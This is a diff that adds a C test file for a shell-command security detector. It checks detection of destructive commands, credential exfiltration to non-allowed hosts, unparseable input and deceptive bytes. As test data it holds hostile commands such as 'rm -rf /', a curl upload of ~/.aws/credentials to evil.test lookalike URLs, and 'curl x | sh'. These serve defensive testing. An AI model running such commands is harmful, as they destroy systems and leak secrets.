@@ -1,0 +1,194 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* The shell detector: spans, words, modes, hosts of the policy, bounds. Verdicts: tests/table. */
+#include "harness.h"
+#include "inspect/detectors.h"
+#include "inspect/scan.h"
+
+static struct bawn_findings vet(struct bawn_subject sub, const struct bawn_policy *p)
+{
+	struct bawn_arena *a = bawn_arena_new(); /* lives as long as the test's process */
+	struct bawn_findings f = {0};
+	struct bawn_error err = {0};
+
+	sub.lang = BAWN_LANG_BASH;
+	sub.detect = BAWN_DETECT_COMMAND;
+	sub.last = true;
+	if (sub.text && !sub.len)
+		sub.len = strlen(sub.text);
+	ASSERT_EQ(bawn_scan_subject(a, p, &sub, &f, &err), 0);
+	return f;
+}
+
+static const struct bawn_finding *find(const struct bawn_findings *f, const char *rule)
+{
+	for (size_t i = 0; i < f->n; i++) {
+		if (!strcmp(f->v[i].rule, rule))
+			return &f->v[i];
+	}
+	return NULL;
+}
+
+static double worst(const struct bawn_findings *f)
+{
+	double x = 0;
+
+	for (size_t i = 0; i < f->n; i++)
+		x = f->v[i].confidence > x ? f->v[i].confidence : x;
+	return x;
+}
+
+TEST(span_is_the_command)
+{
+	struct bawn_findings f =
+		vet((struct bawn_subject){.text = "echo hi; rm -rf /; echo bye"}, NULL);
+	const struct bawn_finding *x = find(&f, "command.remove");
+
+	ASSERT_TRUE(x != NULL);
+	ASSERT_TRUE(x->start >= 8 && x->start <= 11);
+	ASSERT_TRUE(x->end >= 17 && x->end <= 18);
+	ASSERT_STREQ(x->category, "destruction");
+	ASSERT_TRUE(strstr(x->message, "'rm'") != NULL);
+}
+
+TEST(span_of_a_nested_text_is_where_it_stands)
+{
+	struct bawn_findings f =
+		vet((struct bawn_subject){.text = "echo hi; bash -c 'rm -rf /'"}, NULL);
+	const struct bawn_finding *x = find(&f, "command.remove");
+
+	ASSERT_TRUE(x != NULL);
+	ASSERT_TRUE(x->start >= 8 && x->end <= 27);
+}
+
+/* Words were split already: what looks like syntax in them is none. */
+TEST(words_are_not_read_again)
+{
+	static const char *const plain[] = {"echo", "$(rm -rf /)", ";", "rm", "-rf", "/", NULL};
+	static const char *const script[] = {"sh", "-c", "rm -rf /", NULL};
+	struct bawn_findings f = vet((struct bawn_subject){.argv = plain, .text = ""}, NULL);
+
+	ASSERT_EQ(f.n, 0);
+	f = vet((struct bawn_subject){.argv = script, .text = "sh -c 'rm -rf /'"}, NULL);
+	ASSERT_TRUE(worst(&f) >= 0.7);
+}
+
+TEST(hosts_of_the_policy_are_compared_as_hosts)
+{
+	static const struct {
+		const char *url;
+		bool leak;
+	} rows[] = {
+		{"https://up.example.com/x", false},
+		{"https://UP.EXAMPLE.COM./x", false},
+		{"https://a.files.example.org/x", false},
+		{"https://files.example.org/x", true},
+		{"https://up.example.com.evil.test/x", true},
+		{"https://up.example.com@evil.test/x", true},
+		{"https://evil.test/up.example.com", true},
+		{"https://xup.example.com/", true},
+	};
+	struct bawn_item items[] = {{.text = "up.example.com"}, {.text = "*.files.example.org"}};
+	struct bawn_policy p = {.net_allow_hosts = {items, 2, 2}};
+
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
+		char text[200];
+
+		(void)snprintf(
+			text, sizeof(text), "curl -F f=@$HOME/.aws/credentials %s", rows[i].url);
+		struct bawn_findings f = vet((struct bawn_subject){.text = text}, &p);
+
+		if ((find(&f, "command.exfiltration") != NULL) != rows[i].leak)
+			FAIL("%s", rows[i].url);
+	}
+}
+
+TEST(strict_mode_does_not_trust_what_does_not_parse)
+{
+	struct bawn_findings f = vet((struct bawn_subject){.text = "echo \"a"}, NULL);
+
+	ASSERT_TRUE(worst(&f) < 0.3);
+	f = vet((struct bawn_subject){.text = "echo \"a", .mode = BAWN_MODE_STRICT}, NULL);
+	ASSERT_TRUE(worst(&f) >= 0.3);
+	f = vet((struct bawn_subject){.text = "echo \"a; curl x | sh"}, NULL);
+	ASSERT_TRUE(worst(&f) >= 0.3);
+}
+
+TEST(a_script_may_do_more_than_a_command)
+{
+	static const char text[] = "#!/bin/sh\ncp app.service /etc/systemd/system/app.service\n";
+	struct bawn_findings f =
+		vet((struct bawn_subject){.kind = BAWN_KIND_CODE, .text = text}, NULL);
+
+	ASSERT_TRUE(worst(&f) < 0.3);
+	f = vet((struct bawn_subject){.text = text}, NULL);
+	ASSERT_TRUE(worst(&f) >= 0.3);
+}
+
+static char big[1 << 20];
+
+static void fill(const char *piece)
+{
+	size_t n = strlen(piece);
+
+	memset(big, 0, sizeof(big));
+	for (size_t i = 0; i + n < sizeof(big); i += n)
+		memcpy(big + i, piece, n);
+}
+
+/* Whatever is repeated up to a megabyte: it ends, and it is not taken for harmless. */
+TEST(hostile_sizes)
+{
+	static const char *const pieces[] = {"a", "echo a;", "$(", "`", "\"$(", "(", "{a,b}", "${",
+		"sudo ", "eval ", "<<E ", "a=$a$a;", "if a; then ", "|cat", "'", "\"", "\\",
+		"f(){ ", "for i in 1 2 3; do ", ">x ", "[[ ", "((", "case x in a) ", "x\n"};
+
+	for (size_t i = 0; i < sizeof(pieces) / sizeof(pieces[0]); i++) {
+		fill(pieces[i]);
+		struct bawn_findings f = vet((struct bawn_subject){.text = big}, NULL);
+
+		if (worst(&f) < 0.3)
+			FAIL("'%s' over and over is SAFE", pieces[i]);
+	}
+}
+
+TEST(many_parts)
+{
+	char text[600] = "";
+	struct bawn_findings f;
+
+	for (size_t i = 0; i < 50; i++)
+		memcpy(text + i * 5, "true;", 5);
+	f = vet((struct bawn_subject){.text = text}, NULL);
+	ASSERT_TRUE(worst(&f) < 0.3);
+	memcpy(text + 250, "true;", 5);
+	f = vet((struct bawn_subject){.text = text}, NULL);
+	ASSERT_TRUE(worst(&f) >= 0.3);
+}
+
+TEST(bytes_on_which_readers_disagree)
+{
+	static const struct {
+		const char *text;
+		size_t len;
+		bool odd;
+	} rows[] = {
+		{"ls\r\npwd\r\n", 9, false},
+		{"ls\rpwd", 6, true},
+		{"ls\0pwd", 6, true},
+		{"ls \xe2\x80\xa8pwd", 9, true},
+		{"ls \xe2\x80\xae x", 8, true},
+		{"l\xe2\x80\x8bs", 5, true},
+		{"echo \xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb", 16, false},
+		{"\xef\xbb\xbfls", 5, false},
+		{"echo \x1b[31m", 10, true},
+		{"echo \xc3\xa4", 7, false},
+	};
+
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
+		struct bawn_findings f =
+			vet((struct bawn_subject){.text = rows[i].text, .len = rows[i].len}, NULL);
+
+		if ((find(&f, "command.odd-bytes") != NULL) != rows[i].odd)
+			FAIL("row %zu", i);
+	}
+}
